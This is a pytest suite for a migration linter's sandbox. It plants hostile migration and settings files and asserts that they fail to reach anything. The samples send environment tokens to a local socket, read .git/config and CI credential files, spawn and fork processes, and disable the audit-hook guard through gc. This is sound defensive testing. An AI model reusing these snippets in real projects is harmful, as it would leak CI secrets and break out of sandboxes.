"""Project code from a pull request runs only in the sandbox, one child per file, and
``--no-exec`` runs none of it. Each test is an attack that worked before the sandbox."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from aerich_lint.lint import Options, run
from conftest import INIT_SQL, write_migration

SECRET = "ghp_canary_0123456789abcdef"

PYPROJECT = """[tool.aerich]
tortoise_orm = "settings.TORTOISE_ORM"
location = "./migrations"
src_folder = "./."
"""


class Listener:
    """A local TCP server that records whatever reaches it."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.connections = 0
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.settimeout(1)
            with contextlib.suppress(OSError):
                self.received.append(conn.recv(4096))
            conn.close()

    def close(self) -> None:
        self.stop = True
        self.thread.join()
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.close()


def _project(tmp_path: Path, settings: str = "") -> Path:
    (tmp_path / "pyproject.toml").write_text(PYPROJECT)
    (tmp_path / "settings.py").write_text(
        settings
        or 'TORTOISE_ORM = {"connections": {"default": "postgres://u@db/x"}, '
        '"apps": {"models": {"models": ["models"], "default_connection": "default"}}}\n'
    )
    folder = tmp_path / "migrations" / "models"
    write_migration(folder, "0_20240101000000_init.py", INIT_SQL, 'DROP TABLE "product";')
    return folder


def _lint(root: Path, *args: str, env: dict[str, str] | None = None) -> tuple[int, dict, str]:
    proc = subprocess.run(
        [sys.executable, "-m", "aerich_lint", "--format", "json", "--no-cache", *args, str(root)],
        cwd=root,
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "GITHUB_TOKEN": SECRET, "AWS_SECRET_ACCESS_KEY": SECRET, **(env or {})},
        stdin=subprocess.DEVNULL,
    )
    assert "Traceback" not in proc.stdout + proc.stderr
    return proc.returncode, json.loads(proc.stdout), proc.stderr


def _rows(doc: dict) -> list[tuple[str, str, str, int]]:
    return [
        (f["rule"], Path(f["path"]).name, f["section"], f["line"])
        for f in doc["findings"]
        if f["rule"] not in ("old-format", "models-state-mismatch")
    ]


EXFILTRATE = """import os, socket
from tortoise import BaseDBAsyncClient

TOKEN = os.environ.get("GITHUB_TOKEN", "") + os.environ.get("AWS_SECRET_ACCESS_KEY", "")
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as conn:
        conn.sendall(("stolen:" + TOKEN).encode())
    SENT = "sent"
except Exception as exc:
    SENT = type(exc).__name__


async def upgrade(db: BaseDBAsyncClient) -> str:
    return f'ALTER TABLE "product" DROP COLUMN "name"; -- {{TOKEN}} {{SENT}}'


async def downgrade(db: BaseDBAsyncClient) -> str:
    return 'ALTER TABLE "product" ADD "name" VARCHAR(200);'
"""


def test_migration_cannot_read_secrets_or_reach_the_network(
    tmp_path: Path, listener: Listener
) -> None:
    folder = _project(tmp_path)
    name = "1_20240102000000_steal.py"
    (folder / name).write_text(EXFILTRATE.format(port=listener.port))
    code, doc, _ = _lint(tmp_path)
    # The file was still linted: its SQL, read in the sandbox, drops a column.
    assert ("drop-column", name, "upgrade", 14) in _rows(doc)
    assert code == 1
    time.sleep(0.3)
    assert listener.connections == 0
    assert listener.received == []
    assert SECRET not in json.dumps(doc)


def test_settings_module_cannot_read_secrets_or_reach_the_network(
    tmp_path: Path, listener: Listener
) -> None:
    settings = (
        "import os, socket\n"
        "try:\n"
        f"    socket.create_connection(('127.0.0.1', {listener.port}), timeout=2).sendall(\n"
        "        os.environ.get('GITHUB_TOKEN', 'none').encode())\n"
        "except OSError:\n"
        "    pass\n"
        "TORTOISE_ORM = {'connections': {'default': os.environ.get('GITHUB_TOKEN', 'mysql://x')},\n"
        "                'apps': {'models': {'models': ['m'], 'default_connection': 'default'}}}\n"
    )
    _project(tmp_path, settings)
    code, doc, _ = _lint(tmp_path)
    assert code == 0
    (app,) = doc["summary"]["apps"]
    # The settings saw no token: the connection URL is its fallback.
    assert app["dialect"] == "mysql"
    assert app["dialect_reason"] == "from the mysql connection in settings.TORTOISE_ORM"
    time.sleep(0.3)
    assert listener.connections == 0


def test_migration_cannot_write_files_or_start_processes(tmp_path: Path) -> None:
    folder = _project(tmp_path)
    outside = tmp_path.parent / f"{tmp_path.name}_outside_canary"
    later = tmp_path / "later_canary"
    source = f"""import os, subprocess, sys
results = []
for attempt in (
    lambda: open({str(tmp_path / "canary")!r}, "w").write("x"),
    lambda: open({str(outside)!r}, "w").write("x"),
    lambda: os.mkdir({str(tmp_path / "canary_dir")!r}),
    lambda: subprocess.Popen([sys.executable, "-c",
        "import time; time.sleep(2); open({str(later)!r}, 'w').write('x')"]),
    lambda: os.system("touch {later}"),
    lambda: os.fork(),
    lambda: os.kill(os.getppid(), 9),
):
    try:
        attempt()
        results.append("done")
    except Exception as exc:
        results.append(type(exc).__name__)


async def upgrade(db) -> str:
    return "SELECT '" + ",".join(results) + "';"


async def downgrade(db) -> str:
    return "SELECT 1;"
"""
    name = "1_20240102000000_spawn.py"
    (folder / name).write_text(source)
    code, doc, _ = _lint(tmp_path)
    assert _rows(doc) == []  # (old-format aside: custom Python)
    assert code == 1
    time.sleep(2.5)  # what a started process would have written by now
    assert not (tmp_path / "canary").exists()
    assert not outside.exists()
    assert not (tmp_path / "canary_dir").exists()
    assert not later.exists()
    (app,) = doc["summary"]["apps"]
    assert app["executed"] == 1
    assert app["sandbox"].endswith("audit hooks")


def test_migration_cannot_read_the_checkouts_token(tmp_path: Path) -> None:
    """actions/checkout leaves the token in .git/config; a returned string would print it."""
    folder = _project(tmp_path)
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "config").write_text(f"[http]\n\textraheader = AUTHORIZATION: {SECRET}\n")
    (tmp_path / ".env").write_text(f"TOKEN={SECRET}\n")
    name = "1_20240102000000_read.py"
    (folder / name).write_text(
        "from pathlib import Path\n"
        "ROOT = Path(__file__).resolve().parents[2]\n"
        "TEXT = (ROOT / '.git' / 'config').read_text()\n\n\n"
        "async def upgrade(db) -> str:\n"
        "    return f\"SELECT '{TEXT}';\"\n"
    )
    code, doc, _ = _lint(tmp_path)
    assert SECRET not in json.dumps(doc)
    (found,) = [f for f in doc["findings"] if f["rule"] == "not-executed"]
    assert (Path(found["path"]).name, found["section"], found["line"]) == (name, "upgrade", 6)
    assert found["message"] == (
        "upgrade() needs executing to be read, but the sandbox refuses reading "
        f"{tmp_path.resolve() / '.git' / 'config'}: not linted"
    )
    assert code == 1


def test_a_migration_can_read_its_own_sql_files(tmp_path: Path) -> None:
    """Reading SQL that sits beside the migration is a real pattern: allowed."""
    folder = _project(tmp_path)
    (folder / "drop.sql").write_text('ALTER TABLE "product" DROP COLUMN "name";')
    name = "1_20240102000000_file.py"
    (folder / name).write_text(
        "from pathlib import Path\n\n\n"
        "async def upgrade(db) -> str:\n"
        "    return (Path(__file__).parent / 'drop.sql').read_text()\n"
    )
    code, doc, _ = _lint(tmp_path)
    assert ("drop-column", name, "upgrade", 5) in _rows(doc)
    assert code == 1


def test_one_file_cannot_change_what_another_reports(tmp_path: Path) -> None:
    """The first executed file patches the runner and the stand-in client; the second
    file's DROP TABLE is still reported (each file has a fresh process)."""
    folder = _project(tmp_path)
    (folder / "1_20240102000000_patch.py").write_text(
        "import sys, json\n"
        "runner = sys.modules.get('__main__')\n"
        "if runner is not None and hasattr(runner, '_run'):\n"
        "    runner._run = lambda request: {'path': request['path'], 'sections': {}}\n"
        "print(json.dumps({'path': 'x', 'sections': {}}))\n\n\n"
        "async def upgrade(db) -> str:\n"
        '    return f"SELECT {1};"\n'
    )
    victim = "2_20240103000000_victim.py"
    (folder / victim).write_text(
        "TABLE = 'product'\n\n\nasync def upgrade(db) -> str:\n"
        "    return f'DROP TABLE \"{TABLE}\";'\n"
    )
    code, doc, _ = _lint(tmp_path)
    assert ("drop-table", victim, "upgrade", 5) in _rows(doc)
    assert code == 1


def test_memory_limit(tmp_path: Path) -> None:
    folder = _project(tmp_path)
    name = "1_20240102000000_hog.py"
    (folder / name).write_text(
        "HOG = bytearray(4 * 1024 ** 3)\n\n\nasync def upgrade(db):\n    return f''\n"
    )
    code, doc, _ = _lint(tmp_path)
    assert [(f["rule"], Path(f["path"]).name, f["message"]) for f in doc["findings"]] == [
        ("invalid-migration", name, "importing the migration raised MemoryError at line 1")
    ]
    assert code == 1


# --- --no-exec: nothing of the project is imported ------------------------------------

DYNAMIC = (
    "TABLE = 'product'\n"
    "RUN_IN_TRANSACTION = bool(1)\n\n\n"
    "async def upgrade(db) -> str:\n"
    "    return f'DROP TABLE \"{TABLE}\";'\n\n\n"
    "async def downgrade(db) -> str:\n"
    '    return f\'CREATE TABLE "{TABLE}" ("id" INT);\'\n'
)


@pytest.mark.parametrize("how", ["flag", "config"])
def test_no_exec_imports_nothing_and_says_what_was_not_linted(tmp_path: Path, how: str) -> None:
    folder = _project(tmp_path)
    name = "1_20240102000000_dynamic.py"
    (folder / name).write_text(DYNAMIC)
    args: list[str] = ["--no-exec"] if how == "flag" else []
    if how == "config":
        (tmp_path / "pyproject.toml").write_text(PYPROJECT + "\n[tool.aerich-lint]\nexec = false\n")
    code, doc, _ = _lint(tmp_path, *args)
    assert _rows(doc) == [("not-executed", name, "upgrade", 5)]
    (finding,) = [f for f in doc["findings"] if f["rule"] == "not-executed"]
    assert finding["message"] == (
        "upgrade(), downgrade() and RUN_IN_TRANSACTION need executing to be read, "
        "but executing project code is off: not linted"
    )
    assert finding["severity"] == "warning"
    (app,) = doc["summary"]["apps"]
    assert (app["executed"], app["not_executed"]) == (0, 1)
    assert app["dialect_reason"] == (
        "settings.TORTOISE_ORM not imported (executing project code is off); "
        "inferred from the SQL (SERIAL)"
    )
    assert code == 1


def test_no_exec_starts_no_process(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = _project(tmp_path)
    (folder / "1_20240102000000_dynamic.py").write_text(DYNAMIC)

    started: list[object] = []

    def record(*args: object, **kwargs: object) -> None:
        started.append(args)
        raise OSError("no process may start here")

    monkeypatch.setattr(subprocess, "Popen", record)
    result = run(Options(paths=[str(tmp_path)], execute=False, cache=False))
    assert [f.rule for f in result.findings if f.rule == "not-executed"] == ["not-executed"]
    assert started == []
    # Without --no-exec the same run starts the sandbox (so the check above can fail).
    run(Options(paths=[str(tmp_path)], cache=False))
    assert len(started) == 2  # the settings, then the migration


def test_text_output_says_what_ran_in_the_sandbox(tmp_path: Path) -> None:
    folder = _project(tmp_path)
    (folder / "1_20240102000000_dynamic.py").write_text(DYNAMIC)
    proc = subprocess.run(
        [sys.executable, "-m", "aerich_lint", "--no-cache", str(tmp_path)],
        capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL,
    )  # fmt: skip
    (line,) = [x for x in proc.stdout.splitlines() if x.startswith("app models:")]
    assert line.startswith(
        "app models: postgres (from the postgres connection in settings.TORTOISE_ORM); "
        "1 file executed in the sandbox ("
    )
    assert line.endswith("audit hooks)")


def test_what_a_file_leaves_running_is_killed_before_the_next_file(tmp_path: Path) -> None:
    """Audit hooks are no boundary for code in the same process: file 1 switches the
    guard off and forks a process that keeps touching a beacon in the sandbox's folder.
    The PID namespace's clean-up kills it before file 2 runs in the same sandbox."""
    folder = _project(tmp_path)
    (folder / "1_20240102000000_linger.py").write_text(
        "import os, sys, time\n"
        "sys.modules['aerich_lint.sandbox.inside']._forking[0] = os.getpid()\n"
        "if os.fork() == 0:\n"
        "    for _ in range(200):\n"
        "        open(os.path.join(os.environ['TMPDIR'], 'beacon'), 'w').close()\n"
        "        time.sleep(0.05)\n"
        "    os._exit(0)\n\n\n"
        "async def upgrade(db) -> str:\n"
        '    return f"SELECT {1};"\n'
    )
    probe = "2_20240103000000_probe.py"
    (folder / probe).write_text(
        "import os, time\n"
        "time.sleep(0.6)\n"
        "BEACON = os.path.join(os.environ['TMPDIR'], 'beacon')\n"
        "FRESH = os.path.exists(BEACON) and os.path.getmtime(BEACON) > time.time() - 0.3\n\n\n"
        "async def upgrade(db) -> str:\n"
        "    return 'DROP TABLE \"product\";' if FRESH else f'SELECT {2};'\n"
    )
    code, doc, _ = _lint(tmp_path, env={"AERICH_LINT_JOBS": "1"})
    (app,) = doc["summary"]["apps"]
    assert "PID namespace" in app["sandbox"]
    assert [r for r in _rows(doc) if r[0] != "missing-downgrade"] == []
    assert code == 1  # old-format: custom Python


def test_data_files_below_the_top_folder_are_readable(tmp_path: Path) -> None:
    """Data migrations load JSON/CSV from the project; credentials a CI step leaves at
    the top of the checkout (gha-creds-*.json) are not readable."""
    folder = _project(tmp_path)
    (tmp_path / "data").mkdir()
    (tmp_path / "data" / "tables.json").write_text('["product"]')
    (tmp_path / f"gha-creds-{SECRET}.json").write_text(json.dumps({"token": SECRET}))
    ok, refused = "1_20240102000000_data.py", "2_20240103000000_creds.py"
    (folder / ok).write_text(
        "import json\nfrom pathlib import Path\n"
        "ROOT = Path(__file__).resolve().parents[2]\n"
        "(TABLE,) = json.loads((ROOT / 'data' / 'tables.json').read_text())\n\n\n"
        "async def upgrade(db) -> str:\n"
        '    return f\'ALTER TABLE "{TABLE}" DROP COLUMN "name";\'\n'
    )
    (folder / refused).write_text(
        "from pathlib import Path\n"
        "ROOT = Path(__file__).resolve().parents[2]\n"
        "TEXT = next(ROOT.glob('gha-creds-*.json')).read_text()\n\n\n"
        "async def upgrade(db) -> str:\n"
        "    return f\"SELECT '{TEXT}';\"\n"
    )
    code, doc, _ = _lint(tmp_path)
    rows = _rows(doc)
    assert ("drop-column", ok, "upgrade", 8) in rows
    assert ("not-executed", refused, "upgrade", 6) in rows
    assert SECRET not in json.dumps([f["statement"] for f in doc["findings"]])
    assert code == 1


def test_hidden_files_are_masked_even_when_the_audit_hook_is_bypassed(tmp_path: Path) -> None:
    folder = _project(tmp_path)
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "config").write_text(f"token = {SECRET}\n")
    (tmp_path / ".env").write_text(f"TOKEN={SECRET}\n")
    name = "1_20240102000000_bypass.py"
    (folder / name).write_text(
        "import gc\nfrom pathlib import Path\n"
        "for guard in [o for o in gc.get_objects() if type(o).__name__ == '_Guard']:\n"
        "    guard._readable = lambda full: True\n"
        "ROOT = Path(__file__).resolve().parents[2]\n"
        "SEEN = []\n"
        "for secret in (ROOT / '.git' / 'config', ROOT / '.env'):\n"
        "    try:\n"
        "        SEEN.append(secret.read_text().replace(\"'\", ''))\n"
        "    except OSError as exc:\n"
        "        SEEN.append(type(exc).__name__)\n\n\n"
        "async def upgrade(db) -> str:\n"
        "    return \"UPDATE product SET name = '\" + ','.join(SEEN) + \"';\"\n"
    )
    _code, doc, _ = _lint(tmp_path)
    (app,) = doc["summary"]["apps"]
    assert "mount" in app["sandbox"]
    (update,) = [f for f in doc["findings"] if f["rule"] == "delete-without-where"]
    assert Path(update["path"]).name == name
    assert update["statement"] == "UPDATE product SET name = 'FileNotFoundError,'"
    assert SECRET not in json.dumps(doc)
